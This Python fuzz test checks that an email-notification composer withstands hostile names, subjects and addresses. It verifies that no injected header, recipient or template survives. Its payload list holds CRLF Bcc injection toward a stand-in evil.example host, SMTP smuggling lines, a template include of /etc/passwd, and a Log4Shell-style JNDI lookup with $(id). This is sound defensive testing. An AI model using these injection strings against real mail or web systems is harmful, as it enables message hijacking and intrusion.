"""Hostile names, subjects and texts: each message is read back by a parser that is not Python's, written in Rust."""

import json
import random
import re
from typing import Any, Final

import pytest
from fast_mail_parser import parse_email

from pdca.notify.lines import one_line
from pdca.notify.mail import compose, compose_trial, file_name
from pdca.store.driver import Row
from pdca.store.jsontext import to_json
from scheduler.channels.webhook import as_json, webhook_id
from tests.fault.chance import dice
from tests.unit.notify.rows import INSTALLATION, row
from tests.unit.notify.test_mail import HEADERS

MANY: Final = 10_000
FEW: Final = 200
RECIPIENT: Final = "sofie@zone.example"
OTHER: Final = "all@evil.example"
PIECES: Final = (
    f"\r\nBcc: {OTHER}",
    f"\nTo: {OTHER}",
    f"\rCc: {OTHER}",
    f"\r\n\r\n<script>alert(1)</script> {OTHER}",
    "\r\n.\r\nMAIL FROM:<x@evil.example>\r\n",
    "\n.\n",
    "\0",
    "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029",
    "\u202e\u2066\u2067\u200f",
    "%s %(plan)s %n %",
    "{0} {plan} {} {self.__class__}",
    "{{ 7*7 }} {% include '/etc/passwd' %} {# x #}",
    "${jndi:ldap://evil.example} $(id) `id`",
    "<script>alert('x')</script>",
    "=?utf-8?q?=0D=0ABcc:_all=40evil.example?=",
    "=?utf-8?b?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?a?==?utf-8?q?b?= =?",
    f"<{OTHER}>, {OTHER}; group: {OTHER};",
    f'"{OTHER}" <{OTHER}>',
    "\\\" ' ( ) [ ] : ; @ , < >",
    "👩‍🚒🇧🇪👨‍👩‍👧‍👦",
    "é" * 60,
    "e\u0301\u0323" * 30,
    "漢字" * 40,
    "x" * 1_200,
    "x " * 700,
    " " * 300,
    "\t",
    "\ufeff\u200b\u00ad",
    "",
)
ADDRESSES: Final = (
    RECIPIENT,
    f"{RECIPIENT}\r\nBcc: {OTHER}",
    f"{RECIPIENT},{OTHER}",
    f"{RECIPIENT}> <{OTHER}",
    f'"a b"@{OTHER}',
    f"=?utf-8?q?{OTHER}?=@x.example",
    "sofie@zone.example ",
    None,
)


def hostile(chance: random.Random) -> str:
    """Some pieces in a row, among them characters that nobody chose."""
    pieces = [
        chance.choice(PIECES) if chance.random() < 0.7 else chr(chance.choice((*range(0x20), *range(0x80, 0x2100))))
        for _ in range(chance.randint(1, 5))
    ]
    return "".join(pieces)


def told(chance: random.Random, address: str | None) -> tuple[Row, Row]:
    """A row of the outbox and of the installation, hostile wherever a user may write."""
    facts: Row = row(
        chance.choice(("plan.advanced", "plan.approved", "plan.migrated", "evaluation.opened")),
        language=chance.choice(("en", "nl", "fr", hostile(chance))),
        person_name=hostile(chance),
        actor_name=hostile(chance),
        email=address,
        parameters={"title": {"en": hostile(chance), "nl": hostile(chance)}, "reason": hostile(chance)},
    )
    body = {**INSTALLATION, "name": to_json({"en": hostile(chance)}), "organisation_id": hostile(chance)}
    return facts, body


def seen(text: str) -> str:
    """A text without what a reader does not see of it: where lines are folded is no part of it."""
    return "".join(text.split())


def is_one_message(content: bytes, recipients: list[str], kinds: list[str]) -> Any:  # noqa: ANN401 - of a library without types
    """Hold a message to its form: lines that mail allows, each header once, one recipient; gives it as it is read."""
    lines = content.split(b"\r\n")
    assert not any(set(line) & {0, 10, 13} for line in lines)
    assert max(map(len, lines)) <= 998
    head = content.partition(b"\r\n\r\n")[0]
    names = [line.partition(b":")[0].decode() for line in head.split(b"\r\n") if line[:1] not in {b" ", b"\t"}]
    assert sorted(names) == sorted(kinds)
    read = parse_email(content)
    assert {name: len(values) for name, values in read.headers.items()} == dict.fromkeys(kinds, 1)
    assert [one.address for one in read.to if one.address] == recipients
    assert not read.cc
    assert not read.bcc
    assert not read.attachments
    assert len(read.text_plain) == 1
    assert not re.search(r"[\r\n]", read.subject)
    return read


def hold(chance: random.Random) -> None:
    """Make one hostile message, and hold it and what the other channels make of it."""
    address = chance.choice(ADDRESSES)
    facts, body = told(chance, address)
    message = compose(facts, body, None)
    recipients = [RECIPIENT] if address in {RECIPIENT, "sofie@zone.example "} else []
    read = is_one_message(message.as_bytes(), recipients, HEADERS)
    assert seen(read.subject) == seen(str(message["Subject"]))
    said = one_line(str(json.loads(facts["parameters"])["title"].get(facts["language"], "")))
    if said and len(said) <= 60:
        # No mark of a template was filled in.
        assert seen(said) in seen(read.subject)
    posted = json.loads(as_json(message))
    assert posted["data"]["notification"] == "P-004.17.1"
    assert seen(posted["data"]["subject"]) == seen(read.subject)
    assert "." not in webhook_id(message)
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*\.eml", file_name(hostile(chance)))
    trial = compose_trial({**facts, "person_id": "U-002"}, body, None, facts["created_at"])
    is_one_message(trial.as_bytes(), recipients, [name for name in HEADERS if name != "X-PDCA-Plan"])


def test_of_some_hostile_texts_none_adds_a_header_a_recipient_or_a_template() -> None:
    chance = dice("hostile texts")
    for _ in range(FEW):
        hold(chance)


@pytest.mark.soak
def test_of_ten_thousand_hostile_texts_none_adds_a_header_a_recipient_or_a_template() -> None:
    chance = dice("ten thousand hostile texts")
    for _ in range(MANY):
        hold(chance)
